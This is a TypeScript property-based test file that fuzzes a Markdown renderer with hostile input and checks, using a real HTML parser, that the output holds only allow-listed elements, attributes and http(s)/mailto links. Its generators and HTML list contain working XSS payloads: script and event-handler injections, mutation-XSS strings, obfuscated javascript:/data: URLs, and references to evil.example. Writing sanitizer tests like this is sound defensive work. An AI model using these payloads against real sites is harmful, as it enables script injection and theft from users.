/**
 * The Markdown renderer against arbitrary and hostile input: it never throws, and what it writes,
 * read back by a real HTML parser (parse5, as a browser would), holds only allow-listed elements
 * and attributes, and links only to http(s) and mailto addresses, whatever the casing or encoding
 * of `javascript:`, `vbscript:` or `data:` they were written with.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { parseFragment } from "parse5";
import { renderMarkdown, renderMarkdownUnguarded } from "../src/markdown/render.ts";

const ELEMENTS = new Set(["p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong", "s", "a"]);
const ATTRIBUTES: Record<string, ReadonlySet<string>> = { a: new Set(["href", "rel", "title"]), ol: new Set(["start"]) };
const PROTOCOLS = new Set(["http:", "https:", "mailto:"]);
const REL = "noopener noreferrer nofollow";

interface Node {
  readonly nodeName: string;
  readonly tagName?: string;
  readonly attrs?: readonly { name: string; value: string }[];
  readonly childNodes?: readonly Node[];
  readonly content?: Node;
}

/** Every problem with the HTML, as a browser would parse it; empty when it is safe. */
function problems(html: string): string[] {
  const found: string[] = [];
  // iterative: emphasis markers can nest thousands deep, beyond a recursive walk's stack
  const stack: { node: Node; inLink: boolean }[] = [{ node: parseFragment(html) as unknown as Node, inLink: false }];
  while (stack.length > 0) {
    const { node, inLink } = stack.pop()!;
    for (const child of node.childNodes ?? []) {
      if (child.nodeName === "#text") continue;
      if (child.nodeName === "#comment") {
        found.push("a comment");
        continue;
      }
      const tag = child.tagName ?? child.nodeName;
      if (!ELEMENTS.has(tag)) found.push(`element <${tag}>`);
      if (tag === "a" && inLink) found.push("a link inside a link");
      const allowed = ATTRIBUTES[tag] ?? new Set<string>();
      for (const { name, value } of child.attrs ?? []) {
        if (!allowed.has(name)) found.push(`attribute ${name} on <${tag}>`);
        if (tag === "a" && name === "href") {
          let protocol = "(not absolute)";
          try {
            protocol = new URL(value).protocol;
          } catch {
            // relative or unparsable: refused below
          }
          if (!PROTOCOLS.has(protocol)) found.push(`link to ${JSON.stringify(value)}`);
        }
        if (tag === "a" && name === "rel" && value !== REL) found.push(`rel=${JSON.stringify(value)}`);
        if (tag === "ol" && name === "start" && !/^\d+$/.test(value)) found.push(`start=${JSON.stringify(value)}`);
      }
      if (tag === "a" && !(child.attrs ?? []).some((a) => a.name === "rel")) found.push("a link without rel");
      if (child.content) stack.push({ node: child.content, inLink: inLink || tag === "a" });
      stack.push({ node: child, inLink: inLink || tag === "a" });
    }
  }
  return found;
}

// ---- hostile material ------------------------------------------------------------------------

const randomCase = (word: string) => fc.array(fc.boolean(), { minLength: word.length, maxLength: word.length }).map((upper) => [...word].map((c, i) => (upper[i] ? c.toUpperCase() : c)).join(""));

/** One character written as itself, an HTML entity (decimal, hex, padded), or percent-encoded. */
const encodedChar = (c: string) =>
  fc.constantFrom(
    c,
    `&#${c.charCodeAt(0)};`,
    `&#x${c.charCodeAt(0).toString(16)};`,
    `&#X${c.charCodeAt(0).toString(16).toUpperCase()};`,
    `&#000${c.charCodeAt(0)};`,
    `%${c.charCodeAt(0).toString(16)}`,
    c === ":" ? "&colon;" : c,
  );
const noise = fc.constantFrom("", "", "", "\t", "\n", " ", "\u0000", "\u0001", "\u000b", "\r", "&Tab;", "&NewLine;", "\\", "%09", "%0a", "\u200b", "\ufeff");

/** A dangerous scheme in any casing, with characters encoded or padded by noise browsers may strip. */
const dangerousScheme = fc
  .constantFrom("javascript", "vbscript", "data", "file", "blob", "livescript", "jar")
  .chain((word) => randomCase(word))
  .chain((word) => fc.tuple(...[...`${word}:`].map((c) => fc.tuple(noise, encodedChar(c)).map(([n, e]) => n + e))).map((parts) => parts.join("")));

const payload = fc.constantFrom("alert(1)", "alert`1`", "//%0aalert(1)", "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "text/html,<script>alert(1)</script>", "msgbox(1)", "//evil.example/x");

const dangerousUrl = fc.tuple(noise, dangerousScheme, payload).map(([n, s, p]) => n + s + p);
const safeUrl = fc.constantFrom("https://example.org/a?b=1&c=2#d", "http://example.org", "mailto:ada@example.org", "https://例え.jp/パス", "https://example.org/(paren)");
const anyUrl = fc.oneof(dangerousUrl, dangerousUrl, safeUrl, fc.string({ maxLength: 30 }));

const text = fc.oneof(fc.string({ maxLength: 20 }), fc.constantFrom("click", "![x](y)", "[nested [brackets]]", "*em*", "`code`", "&lt;b&gt;", "<b>", "**"));

const linkish = fc.oneof(
  fc.tuple(text, anyUrl).map(([t, u]) => `[${t}](${u})`),
  fc.tuple(text, anyUrl).map(([t, u]) => `[${t}](<${u}>)`),
  fc.tuple(text, anyUrl, fc.string({ maxLength: 10 })).map(([t, u, title]) => `[${t}](${u} "${title}")`),
  fc.tuple(text, anyUrl).map(([t, u]) => `![${t}](${u})`),
  fc.tuple(text, anyUrl, anyUrl).map(([t, img, u]) => `[![${t}](${img})](${u})`),
  anyUrl.map((u) => `<${u}>`),
  fc.tuple(text, anyUrl).map(([t, u]) => `[${t}][ref]\n\n[ref]: ${u}`),
  fc.tuple(text, anyUrl).map(([t, u]) => `[${t}]\n\n[${t}]: ${u} 'title'`),
  anyUrl,
);

const HTML = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<svg onload=alert(1)><circle/></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<style>*{display:none}</style>",
  '<div style="position:fixed;inset:0">',
  "<iframe src=//evil.example>",
  "<object data=x>",
  "<embed src=x>",
  "<base href=//evil.example/>",
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  "<form action=//evil.example><input name=password autofocus onfocus=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  "<!-- comment --><![CDATA[x]]>",
  "<details open ontoggle=alert(1)>",
  "<p onclick=alert(1)>x</p>",
  '<a href="https://example.org" target="_blank">x</a>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;",
  "\u0000<script>",
];
const MARKDOWN = ["# ", "###### ", "####### ", "> ", "- ", "* ", "1. ", "42) ", "```", "```js onload=x\n", "    ", "---", "***", "| a | b |\n|---|---|\n| c | d |", "~~", "**", "_", "`", "\\", "  \n", "\n\n", "\n", "[", "]", "(", ")", "<", ">", "!", "&", ":", "=", '"', "'"];

const fragment = fc.oneof(linkish, fc.constantFrom(...HTML), fc.constantFrom(...MARKDOWN), text, fc.string({ unit: "grapheme", maxLength: 10 }), fc.string({ unit: "binary", maxLength: 10 }));
const hostile = fc.array(fragment, { maxLength: 25 }).map((parts) => parts.join(""));
const offset = fc.option(fc.integer({ min: -3, max: 8 }), { nil: undefined });

describe("Markdown rendering", () => {
  it("never throws and writes only allow-listed elements, attributes and links, whatever the input", () => {
    fc.assert(
      fc.property(fc.oneof(hostile, fc.string({ maxLength: 400 }), fc.string({ unit: "binary", maxLength: 400 })), offset, (source, headingOffset) => {
        const html = renderMarkdownUnguarded(source, headingOffset === undefined ? {} : { headingOffset });
        assert.deepEqual(problems(html), [], `${JSON.stringify(source)}\n→ ${html}`);
      }),
      { numRuns: 3000 },
    );
  });

  it("no dangerous link survives, alone or in a sentence, in any casing or encoding", () => {
    fc.assert(
      fc.property(fc.oneof(fc.tuple(text, dangerousUrl).map(([t, u]) => `[${t}](${u})`), dangerousUrl.map((u) => `<${u}>`), dangerousUrl.map((u) => `see ${u} now`), fc.tuple(text, dangerousUrl).map(([t, u]) => `![${t}](${u})`)), (source) => {
        const html = renderMarkdownUnguarded(source);
        assert.deepEqual(problems(html), [], `${JSON.stringify(source)}\n→ ${html}`);
        assert.ok(!/<a /.test(html), `${JSON.stringify(source)}\n→ ${html}`);
      }),
      { numRuns: 2000 },
    );
  });

  it("survives deep nesting and long input", () => {
    for (const source of [
      ">".repeat(5000) + " x",
      "[".repeat(5000) + "x" + "](https://example.org)".repeat(2000),
      "*".repeat(10000) + "x" + "*".repeat(10000),
      "- ".repeat(3000) + "x",
      "`".repeat(3000),
      "![".repeat(3000),
      "<".repeat(5000) + "script" + ">".repeat(5000),
      "&#".repeat(5000),
      "a\n".repeat(20000),
    ]) {
      assert.deepEqual(problems(renderMarkdownUnguarded(source)), []);
    }
  });

  it("renders what organizers write: headings, lists, emphasis, links, block quotes, code", () => {
    const html = renderMarkdown(
      "# Save the library\n\nWe, the **residents**, ask the *council*:\n\n- keep it open\n- hire staff\n\n3. third\n4. fourth\n\n> a quote\n\n`code` and\n\n```\nblock <b>\n```\n\nSee [our site](https://example.org/library) or write to ada@example.org.\nhttps://example.org/plain\n\n~~old~~",
    );
    assert.deepEqual(problems(html), []);
    assert.match(html, /<h2>Save the library<\/h2>/);
    assert.match(html, /<strong>residents<\/strong>/);
    assert.match(html, /<em>council<\/em>/);
    assert.match(html, /<ul>\s*<li>keep it open<\/li>/);
    assert.match(html, /<ol start="3">/);
    assert.match(html, /<blockquote>\s*<p>a quote<\/p>/);
    assert.match(html, /<code>code<\/code>/);
    assert.match(html, /<pre><code>block &lt;b&gt;\n<\/code><\/pre>/);
    assert.match(html, /<a href="https:\/\/example\.org\/library" rel="noopener noreferrer nofollow">our site<\/a>/);
    assert.match(html, /<a href="mailto:ada@example\.org" rel="noopener noreferrer nofollow">ada@example\.org<\/a>/);
    assert.match(html, /<a href="https:\/\/example\.org\/plain" rel="noopener noreferrer nofollow">/);
    assert.match(html, /<s>old<\/s>/);
  });

  it("shows raw HTML as text, and images as links that load nothing", () => {
    const html = renderMarkdown('<script>alert(1)</script> <img src="https://tracker.example/p.gif"> ![the march](https://example.org/march.jpg)');
    assert.deepEqual(problems(html), []);
    assert.match(html, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/);
    assert.ok(!/<img/i.test(html));
    assert.match(html, /<a href="https:\/\/example\.org\/march\.jpg" rel="noopener noreferrer nofollow">the march<\/a>/);
    // a linked image: the link stays, the image is its text
    assert.match(renderMarkdown("[![logo](https://example.org/logo.png)](https://example.org)"), /^<p><a href="https:\/\/example\.org" rel="noopener noreferrer nofollow">logo<\/a><\/p>/);
  });

  it("moves headings under the page's title, and can leave them", () => {
    assert.match(renderMarkdown("# A\n\n###### F"), /<h2>A<\/h2>\n<h6>F<\/h6>/);
    assert.match(renderMarkdown("# A", { headingOffset: 0 }), /<h1>A<\/h1>/);
    assert.match(renderMarkdown("# A", { headingOffset: 2 }), /<h3>A<\/h3>/);
  });
});
